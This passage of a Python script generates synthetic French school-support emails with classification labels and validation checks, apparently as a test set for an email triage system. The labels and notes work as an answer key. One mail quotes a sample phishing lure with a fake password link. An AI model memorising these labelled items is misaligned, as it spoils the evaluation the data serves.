Pouvez-vous le renvoyer ?

Julien Marchand
Collège Les Ménigouttes, Le Blanc (0360719L)
"""))
label(135, "missing_noreply_mail", True, "0360719L", "centre-val-de-loire", "espace_acheteur", False, "fr",
      "The 12-hour activation mail for the customer account never came; no product named. Personal Gmail, region from the UAI.")

mail(136, frm=("Principal - Collège de Furiani", "ce.7200305U@ac-corse.fr"), client="zimbra",
      subject="Ressource Universalis non accessible", dt=when(26, 17, 4),
      text=T("""
Bonjour,

La ressource Universalis commandée le 14 novembre n'est toujours pas accessible pour nos élèves. Pouvez-vous me dire quand elle le sera ?

Cordialement,

Paul Grimaldi
Principal
Collège de Furiani
"""))
label(136, "subscription_activation", False, "7200305U", "corse", "esidoc", True, "fr",
      "Written by the principal from the ce.<UAI> address, but he only asks when a subscription will be available: not a head-of-establishment request. Ordered twelve days ago: past the 72-hour rule, so a person checks.")

mail(137, frm=("Monique Le Dû", "monique.ledu@orange.fr"), client="other",
      subject="mot de passe perdu BCD", dt=when(27, 14, 50),
      mta=("smtp-22.smtp.orange.fr", "80.12.242.22"),
      text=T("""
Bonjour,

Je suis bénévole à la BCD de l'école de mon village et je dois mettre à jour le catalogue e-sidoc, mais j'ai perdu le mot de passe. La directrice m'a dit de vous écrire.

Pouvez-vous m'aider ?

Monique Le Dû
"""))
label(137, "password_reset", True, None, None, "esidoc", False, "fr",
      "Lost e-sidoc password from a personal orange.fr address, no UAI: the reset path (official address, else head's written request) applies; no region.")

mail(138, frm=("Anne-Sophie Cariou", "anne-sophie.cariou@ac-rennes.fr"), client="apple",
      subject="Fwd: Votre mot de passe expire dans 24 heures", dt=when(26, 8, 25),
      text=T("""
Bonjour,

Je ne sais pas à qui demander, le numéro de l'assistance académique sonne occupé depuis ce matin. Est-ce que ce message est un vrai ? Je n'ai pas cliqué.

Anne-Sophie Cariou
Secrétaire de gestion, collège Saint-Exupéry, Landivisiau
UAI 029 1381 U


Début du message réexpédié :

De: Messagerie académique <alerte@ac-rennes-messagerie.com>
Objet: Votre mot de passe expire dans 24 heures
Date: 26 novembre 2025 à 07:58:12 UTC+1
À: anne-sophie.cariou@ac-rennes.fr

Cher(e) utilisateur(trice),

Suite à la réinitialisation générale, votre nouveau mot de passe expire dans 24 heures. Pour le conserver, cliquez ici :
http://ac-rennes-messagerie.com/conserver

Le service messagerie
"""))
label(138, "other", False, "0291381U", "bretagne", None, True, "fr",
      "Forwards (Apple Mail 'Début du message réexpédié') a phishing mail imitating the académie mailbox and asks whether it is genuine: other; not about our products, so no platform. UAI typed with spaces ('029 1381 U').")

raw(139, [
    *transport("no-reply@espace-acheteur.example.fr", when(27, 15, 33), "other",
               mta=("mail.espace-acheteur.example.fr", "198.51.100.139"),
               return_path="bounces+9902@espace-acheteur.example.fr"),
    "From: Espace Acheteur <no-reply@espace-acheteur.example.fr>",
    f"To: {SUPPORT}",
    "Subject: " + eh("Votre compte a été verrouillé"),
    f"Date: {rfcdate(when(27, 15, 33, 1))}",
    f"Message-ID: <lock.20251127.{hexs(6)}@espace-acheteur.example.fr>",
    "Auto-Submitted: auto-generated",
    "X-Auto-Response-Suppress: All",
    "MIME-Version: 1.0"],
    text_part(T("""
Bonjour,

Suite à 5 tentatives de connexion infructueuses, le compte « test-support » a été verrouillé pendant 30 minutes.

Si vous n'êtes pas à l'origine de ces tentatives, nous vous recommandons de changer votre mot de passe dès le déverrouillage.

Ce message est envoyé automatiquement, merci de ne pas y répondre.
"""), cte="quoted-printable"))
label(139, "automated", False, None, None, "espace_acheteur", True, "fr",
      "Espace Acheteur notification (Auto-Submitted: auto-generated) that the desk's test account was locked: talks about a locked account and passwords, but it is a robot's mail.")

mail(140, frm=("Kevin O'Neill", "kevin.oneill@ac-rennes.fr"), client="zimbra",
      subject="MailInBlack quarantine - how to whitelist you", dt=when(27, 16, 12),
      text=T("""
Hello,

Our school has been using MailInBlack since the security incident and all your Espace Acheteur emails land in quarantine (I can see them in the MailInBlack dashboard, sender "no-reply").

How do I whitelist you permanently?

Lycée de l'Iroise, Brest - UAI 0290277U

Thanks,
Kevin O'Neill
Assistant bursar
"""))
label(140, "mailinblack_spam", True, "0290277U", "bretagne", "espace_acheteur", False, "en",
      "English; Espace Acheteur mails quarantined by MailInBlack; asks how to allow-list the sender.")

mail(141, frm=("Martine Sauvaire", "martine.sauvaire@ac-aix-marseille.fr"), client="thunderbird",
      subject="Tr: Relance : facture FAC-2025-09-01422", dt=when(28, 8, 44),
      text=T("""
Bonjour,

Nous recevons une relance pour la facture FAC-2025-09-01422 (renouvellement e-sidoc), or celle-ci a été payée par mandat administratif le 14 octobre.

Je pense que la confusion vient du fait que la facture était adressée au collège voisin (UAI 0042044A), alors que c'est notre lycée (UAI 0040180Z) qui a commandé et payé.

Pouvez-vous régulariser et arrêter les relances ?

Martine Sauvaire
Agence comptable - Lycée Pierre-Gilles-de-Gennes, Digne-les-Bains


-------- Message transféré --------
Sujet : 	Relance : facture FAC-2025-09-01422
Date : 	Thu, 27 Nov 2025 18:00:04 +0100
De : 	Service facturation <facturation@assistance.example.fr>
Pour : 	martine.sauvaire@ac-aix-marseille.fr

Bonjour,

Sauf erreur de notre part, la facture FAC-2025-09-01422 d'un montant de 690,00 € TTC reste impayée à ce jour. Merci de procéder à son règlement.

Service facturation
"""))
label(141, "order_billing", False, "0040180Z", "provence-alpes-cote-d-azur", "esidoc", True, "fr",
      "Payment reminder for an invoice already paid; two UAIs: the neighbouring collège 0042044A the invoice was wrongly addressed to, and the lycée 0040180Z that ordered, paid and writes, which is the label (same region either way).")

_r142 = our_ref()
mail(142, frm=("Santa Mariani", "santa.mariani2a@gmail.com"), client="gmail",
      subject="Re: [#SUP-118799] Avenant marché transport", dt=when(24, 9, 30),
      in_reply_to=_r142,
      text=T("""
Bonjour,

Merci pour votre réponse de vendredi, mais le document n'est toujours pas visible : l'avenant n°1 du marché de transport (sorties pédagogiques) n'apparaît pas dans « Mes marchés ».

(Au passage, votre réponse est arrivée dans mes spams avec un bandeau « expéditeur non vérifié », d'où ma réponse tardive.)

Pouvez-vous revérifier ? Collège du Sartenais-Valinco, Propriano, UAI 6201070U.

Cordialement,
Santa Mariani

Le ven. 21 nov. 2025 à 16:12, Assistance <support@assistance.example.fr> a écrit :
> Bonjour,
>
> L'avenant n°1 a été publié ce jour dans l'onglet « Documents » du marché.
> Il devrait être visible après votre prochaine connexion.
>
> Cordialement,
> L'équipe d'assistance
"""))
label(142, "contract_documents", False, "6201070U", "corse", "espace_acheteur", True, "fr",
      "Follow-up reply (Gmail quote): the amendment is still missing after the desk's answer. The aside about our reply landing in spam is not the request.")

mail(143, frm=("Fanny Thomas", "fanny.thomas@ac-rennes.fr"), client="zimbra",
      subject="Inscription webinaire Espace Acheteur", dt=when(28, 10, 2),
      text=T("""
Bonjour,

Je voulais m'inscrire au webinaire « Prise en main de l'Espace Acheteur » du 4 décembre, mais le lien d'inscription reçu dans la lettre d'information renvoie une erreur 404.

Reste-t-il des places, et comment m'inscrire ?

Merci,
Fanny Thomas
"""))
label(143, "other", False, None, "bretagne", "espace_acheteur", False, "fr",
      "Wants to register for a training webinar, the link fails: other. Region from ac-rennes.fr.")

mail(144, frm=("Jessica Martin", "jessica.martin@ac-aix-marseille.fr"), client="samsung",
      subject="compte partagé mot de passe perdu", dt=when(28, 11, 17),
      text=T("""
Bonjour,
on est trois au secrétariat à utiliser le même compte Espace Acheteur et aucun de nous ne retrouve le mot de passe depuis le départ de la collègue qui l'avait changé. L'adresse du compte est celle de l'intendance, qu'on consulte tous.
Comment le réinitialiser ?
Lycée Les Iscles, Manosque - 0042857J
Merci, Jessica

Envoyé depuis mon appareil Galaxy
"""))
label(144, "password_reset", True, "0042857J", "provence-alpes-cote-d-azur", "espace_acheteur", False, "fr",
      "Shared Espace Acheteur account, password unknown since a colleague left; the account's address is readable: standard reset. Samsung mail, base64.")

mail(145, frm=("Secrétariat Collège Jean-Zay", "ce.0370003C@ac-orleans-tours.fr"), client="zimbra",
      subject="Absent : [#SUP-118850] Commande et mot de passe Espace Acheteur", dt=when(26, 9, 1),
      in_reply_to=our_ref(),
      extra=("Auto-Submitted: auto-replied (zimbra; vacation)",),
      text=T("""
Bonjour,

Le secrétariat est fermé du 26 au 28 novembre (formation).

Pour les demandes de mot de passe ENT, merci de vous adresser au référent numérique.
Pour les commandes et les factures, contactez l'intendance au 02 47 22 51 04.

Le secrétariat
"""))
label(145, "automated", False, "0370003C", "centre-val-de-loire", None, True, "fr",
      "Out-of-office of a school office (ce.<UAI> address) that mentions passwords and orders; Auto-Submitted present. The UAI comes from the sender address.")

mail(146, frm=("PINELLI Francesca", "francesca.pinelli@ac-corse.fr"), client="outlook",
      subject="Demande de réinitialisation - portail e-sidoc du collège", dt=when(28, 13, 5),
      text=T("""
Madame, Monsieur,

Je suis la principale du collège de Bonifacio (UAI 6200079S). Notre documentaliste ne parvient plus à accéder au compte administrateur du portail e-sidoc depuis la réinitialisation générale, et l'adresse de contact du compte est celle de son prédécesseur.

Je vous demande de réinitialiser le mot de passe et d'envoyer le lien à l'adresse officielle du collège, ce.6200079S@ac-corse.fr.

Cordialement,

Francesca Pinelli
Principale
"""))
label(146, "head_of_establishment_request", False, "6200079S", "corse", "esidoc", False, "fr",
      "The principal asks in writing, from her personal academic address, for an admin reset with the link to the school's official address.")

mail(147, frm=("Laurent Cesari", "l.cesari@mairie-ville-di-pietrabugno.fr"), client="outlook",
      subject="Code de confirmation pour la signature jamais reçu", dt=when(28, 14, 22),
      text=T("""
Bonjour,

Je dois signer électroniquement la convention d'adhésion de la commune à la centrale d'achat. Au moment de signer, la plateforme m'annonce l'envoi d'un code de confirmation par e-mail : je ne l'ai jamais reçu (trois essais, indésirables vérifiés). L'envoi par SMS n'est pas proposé.

Pouvez-vous m'aider ?

Laurent Cesari
Adjoint au maire
Mairie de Ville-di-Pietrabugno
"""))
label(147, "missing_noreply_mail", True, None, None, "esignature", True, "fr",
      "The e-signature platform's confirmation-code mail never arrives (junk checked, no anti-spam product named): missing_noreply_mail, not contract_documents. Commune address, no region.")

mail(148, frm=("LE CORRE Maud", "maud.le-corre@ac-rennes.fr"), client="outlook",
      subject="Rendre une ressource accessible depuis Toutatice", dt=when(28, 15, 10),
      text=T("""
Bonjour,

La ressource Europresse est activée sur notre portail depuis hier. Comment l'ajouter au bandeau « Ressources » et la rendre accessible aux élèves depuis l'ENT Toutatice ? Je ne vois pas d'option de publication dans l'administration.

Merci d'avance,

Maud Le Corre
Professeure documentaliste
Lycée Chateaubriand - Combourg
UAI 0352383A
"""))
label(148, "subscription_activation", True, "0352383A", "bretagne", "esidoc", False, "fr",
      "Activated resource to publish for pupils through the ENT: the publication step.")

mail(149, frm=("Aoife Brennan", "aoife.brennan@univ-rennes.fr"), client="outlook_en",
      subject="Research survey on phishing in school support services", dt=when(28, 16, 0),
      text=T("""
Dear support team,

I am a PhD student at the University of Rennes working on how school support services coped with the phishing waves that followed this autumn's incidents in several académies.

Would one or two members of your team be willing to answer a 10-minute anonymous survey? I would be happy to share the results with you.

Kind regards,

Aoife Brennan
PhD candidate, University of Rennes
"""))
label(149, "other", False, None, None, None, False, "en",
      "English research survey request: unrelated to the services. University domain, not an académie domain: no region.")

mail(150, frm=("CASTEL Hélène", "helene.castel@ac-aix-marseille.fr"), client="outlook",
      subject="Facture rejetée Chorus + avenant introuvable", dt=when(28, 16, 45),
      text=T("""
Bonjour,

1) Notre facture de la commande de mobilier EA-25-08644 a été rejetée sur Chorus Pro (« SIRET destinataire inconnu ») : elle a été adressée au SIRET de l'ancienne cité scolaire, dissoute au 1er septembre. Pouvez-vous la réémettre avec le SIRET du lycée ?

2) Au passage, l'avenant de transfert du marché de maintenance au nouveau lycée n'est pas visible dans « Mes marchés ».

Merci,

Hélène Castel
Gestionnaire
Lycée Frédéric-Mistral - Avignon
UAI 0842500L
"""))
label(150, "order_billing", False, "0842500L", "provence-alpes-cote-d-azur", "espace_acheteur", True, "fr",
      "Two topics: invoice rejected on Chorus Pro for a wrong SIRET (first, main) and an amendment not visible (contract_documents).")

# === END OF MAILS ===


# ==========================================================================
# write, then check what was written
# ==========================================================================

# 7 digits (a single space may split them, as people type "029 1381 U"), an
# optional space, then the check letter.
UAI_RE = re.compile(r"(?<![0-9A-Za-z])((?:\d ?){6}\d) ?([A-Za-z])(?![0-9A-Za-z])")
# Mails whose headers deliberately carry raw 8-bit (non RFC 2047) text.
RAW_8BIT_HEADERS = set()


def uai_ok(code):
    return UAI_LETTERS[int(code[:7]) % 23] == code[7]


def expected_region(uai, from_addr):
    if uai:
        return REGION_OF_DEPT.get(uai[:3])
    return REGION_OF_DOMAIN.get(domain_of(from_addr))


def texts_of(msg):
    out = [str(msg.get("From", "")), str(msg.get("Subject", "")), str(msg.get("Reply-To", ""))]
    for part in msg.walk():
        if part.get_content_maintype() == "text":
            out.append(part.get_content())
    return out


def write_all():
    assert sorted(MAILS) == list(range(1, 151)), sorted(set(range(1, 151)) - set(MAILS))
    assert sorted(LABELS) == list(range(1, 151)), sorted(set(range(1, 151)) - set(LABELS))
    for old in HERE.glob("h[0-9][0-9][0-9].eml"):
        old.unlink()
    for n in range(1, 151):
        (HERE / f"h{n:03d}.eml").write_bytes(MAILS[n])
    with open(HERE / "labels.jsonl", "w", encoding="utf-8", newline="\n") as f:
        for n in range(1, 151):
            f.write(json.dumps(LABELS[n], ensure_ascii=False) + "\n")


def check_one(n, lab, data):
    fn = f"h{n:03d}.eml"
    assert list(lab) == LABEL_KEYS, (fn, list(lab))
    assert lab["file"] == fn, (fn, lab["file"])
    cat = lab["category"]
    assert cat in CATEGORIES, (fn, cat)
    assert isinstance(lab["auto_reply_ok"], bool), fn
    if cat in NEVER_AUTO:
        assert lab["auto_reply_ok"] is False, (fn, "category is never answered automatically")
    assert lab["platform"] is None or lab["platform"] in PLATFORMS, (fn, lab["platform"])
    assert lab["region"] is None or lab["region"] in set(REGION_OF_DEPT.values()), (fn, lab["region"])
    assert isinstance(lab["hard"], bool), fn
    assert lab["lang"] in ("fr", "en"), fn
    assert isinstance(lab["notes"], str) and len(lab["notes"]) > 20, fn
    uai = lab["uai"]
    if uai is not None:
        assert re.fullmatch(r"\d{7}[A-Z]", uai) and uai_ok(uai), (fn, uai)

    # every header line is ASCII unless the mail is meant to carry raw 8-bit headers
    head = data.split(b"\n\n", 1)[0]
    if n not in RAW_8BIT_HEADERS:
        assert head.isascii(), (fn, "non-ASCII header")
    msg = message_from_bytes(data, policy=policy.default)
    for k, v in msg.items():
        str(v)
    assert not msg.defects, (fn, msg.defects)
    for part in msg.walk():
        assert not part.defects, (fn, part.get_content_type(), part.defects)
        if part.get_content_maintype() == "text":
            assert isinstance(part.get_content(), str), fn
        elif not part.is_multipart():
            assert part.get_payload(decode=True) is not None, (fn, part.get_content_type())
    assert msg["Message-ID"] and msg["Date"] and msg["From"], fn
    dt = msg["Date"].datetime
    assert (dt.year, dt.month) == (2025, 11), (fn, dt)
    from_addr = parseaddr(str(msg["From"]))[1]
    assert "@" in from_addr, (fn, from_addr)

    # UAI codes: every one found must carry the right check letter, unless
    # the label's notes name it as a deliberately wrong check letter.
    found_ok, found_bad = set(), set()
    for t in texts_of(msg):
        for digits, letter in UAI_RE.findall(t):
            code = (digits.replace(" ", "") + letter).upper()
            (found_ok if uai_ok(code) else found_bad).add(code)
    for code in found_bad:
        assert code in lab["notes"] and "wrong check letter" in lab["notes"], (fn, code)
    if uai is not None:
        assert uai in found_ok, (fn, uai, found_ok)
    else:
        assert not found_ok or "not the UAI" in lab["notes"], (fn, found_ok)
    # region: from the UAI's département, else from an académie sender domain
    exp = expected_region(uai, from_addr)
    assert lab["region"] == exp, (fn, lab["region"], exp)


def check_all():
    files = sorted(p.name for p in HERE.glob("*.eml"))
    assert files == [f"h{n:03d}.eml" for n in range(1, 151)], files
    lines = (HERE / "labels.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == 150, len(lines)
    counts, langs, hard = {}, {}, 0
    for n, line in enumerate(lines, 1):
        lab = json.loads(line)
        check_one(n, lab, (HERE / f"h{n:03d}.eml").read_bytes())
        counts[lab["category"]] = counts.get(lab["category"], 0) + 1
        langs[lab["lang"]] = langs.get(lab["lang"], 0) + 1
        hard += lab["hard"]
    assert set(counts) == CATEGORIES, set(CATEGORIES) - set(counts)
    assert 10 <= langs.get("en", 0) <= 22, langs
    return counts, langs, hard


if __name__ == "__main__":
    write_all()
    counts, langs, hard = check_all()
    print("150 mails written and checked.")
    print("categories:", ", ".join(f"{k} {v}" for k, v in sorted(counts.items(), key=lambda kv: -kv[1])))
    print("languages:", langs, " hard:", hard)
